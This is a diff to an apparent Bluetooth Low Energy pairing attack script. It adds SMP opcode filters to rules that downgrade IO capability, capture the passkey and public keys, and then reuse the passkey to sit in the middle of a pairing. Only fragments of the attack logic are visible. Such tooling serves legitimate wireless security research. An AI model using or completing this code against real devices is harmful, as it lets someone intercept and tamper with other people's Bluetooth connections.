@@ -61,8 +61,10 @@ async def main():
             print("Set Paring Response IO Capability to DISPLAY_ONLY")
         return pkt
 
-    local_rule_engine.add_rule(rule_display_only)
-    remote_rule_engine.add_rule(rule_display_only)
+    # SMP opcodes: 0x01 pairing request, 0x02 pairing response, 0x03 confirm,
+    # 0x04 random, 0x05 failed, 0x0c public key
+    local_rule_engine.add_rule(rule_display_only, opcode=[0x01, 0x02])
+    remote_rule_engine.add_rule(rule_display_only, opcode=[0x01, 0x02])
 
     # First Step: manage to get the passkey
     def rule_get_local_pk(pkt: Packet):
@@ -138,13 +140,17 @@ async def main():
             print("Step 1 finished")
         return pkt
 
-    local_rule_engine.add_rule(rule_get_local_pk)
-    local_rule_engine.add_rule(rule_set_ci)
-    local_rule_engine.add_rule(rule_set_ni)
-    local_rule_engine.add_rule(rule_finish)
+    # the public key is fragmented, its continuations are needed too
+    def public_key(frame):
+        return frame.smp_opcode == 0x0c or frame.is_continuation
 
-    remote_rule_engine.add_rule(rule_get_remote_pk)
-    remote_rule_engine.add_rule(rule_finish)
+    local_rule_engine.add_rule(rule_get_local_pk, match=public_key)
+    local_rule_engine.add_rule(rule_set_ci, opcode=0x03)
+    local_rule_engine.add_rule(rule_set_ni, opcode=0x04)
+    local_rule_engine.add_rule(rule_finish, opcode=0x05)
+
+    remote_rule_engine.add_rule(rule_get_remote_pk, match=public_key)
+    remote_rule_engine.add_rule(rule_finish, opcode=0x05)
 
 
     # Second Step: use the same passkey to become the man-in-the-middle
@@ -173,7 +179,7 @@ async def main():
         return pkt
 
     rule_engine = RuleEngine()
-    rule_engine.add_rule(rule)
+    rule_engine.add_rule(rule, opcode=0x01)
 
     rule_engine.standby = True
     initiator_engine.standby = True